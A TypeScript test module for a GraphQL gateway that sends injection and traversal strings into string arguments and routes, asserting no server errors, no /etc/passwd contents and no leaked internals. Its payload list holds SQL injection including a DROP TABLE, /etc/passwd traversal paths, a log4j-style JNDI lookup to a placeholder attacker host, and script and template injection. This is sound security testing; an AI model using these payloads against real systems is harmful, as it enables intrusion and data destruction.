import type { GraphQLField } from 'graphql';
import { check, LEAK, type SecurityCase } from './cases.js';
import { operationFor } from './operations.js';
import { assertSafe, post } from './hostile-requests.js';

/**
 * Injection and traversal strings in every string argument of every root field, and in the
 * gateway's plain routes, sent as `admin` (an authorization header): answered without a 500 or SQL text.
 */
export function injectionCases(
  operations: { type: 'Query' | 'Mutation'; field: GraphQLField<unknown, unknown> }[],
  gateway: { url: string; origin: string },
  admin: Record<string, string>,
): SecurityCase[] {
  const payloads = [
    "' OR '1'='1",
    "x'); DROP TABLE employee; --",
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    'nul\u0000byte',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, on purpose
    '${jndi:ldap://attacker/x} <script>alert(1)</script> {{7*7}}',
    'ü'.repeat(3000),
  ];
  const cases: SecurityCase[] = [];
  for (const { type, field } of operations) {
    for (const [i, payload] of payloads.entries()) {
      const op = operationFor(type, field, {
        optional: true,
        fill: (scalar) =>
          scalar === 'String' || scalar === 'ID'
            ? payload
            : ((
                {
                  Int: 1,
                  Float: 1,
                  Boolean: true,
                  Decimal: '1.00',
                  Date: '2027-01-04',
                  DateTime: '2027-01-04T09:00:00Z',
                } as Record<string, unknown>
              )[scalar] ?? payload),
      });
      if (op.stringSlots.length === 0) continue;
      cases.push({
        name: `inject#${i} ${type}.${field.name}`,
        async run() {
          assertSafe(await post(gateway.url, { query: op.query, variables: op.variables }, admin));
        },
      });
    }
  }
  for (const path of [
    '/documents/..%2f..%2f..%2fetc%2fpasswd/content',
    '/documents/%2e%2e/%2e%2e/etc/passwd',
    "/exports/journal.hledger?from=2027-01-01'%20OR%201=1--",
    '/documents/../../etc/passwd',
  ]) {
    cases.push({
      name: `traversal ${path}`,
      async run() {
        const res = await fetch(`${gateway.origin}${path}`, { headers: admin });
        const text = await res.text();
        check(res.status < 500, `HTTP ${res.status}: ${text.slice(0, 160)}`);
        check(!/root:.*:0:0:/.test(text), 'served /etc/passwd');
        check(!LEAK.test(text), `leaks internals: ${text.slice(0, 160)}`);
      },
    });
  }
  return cases;
}
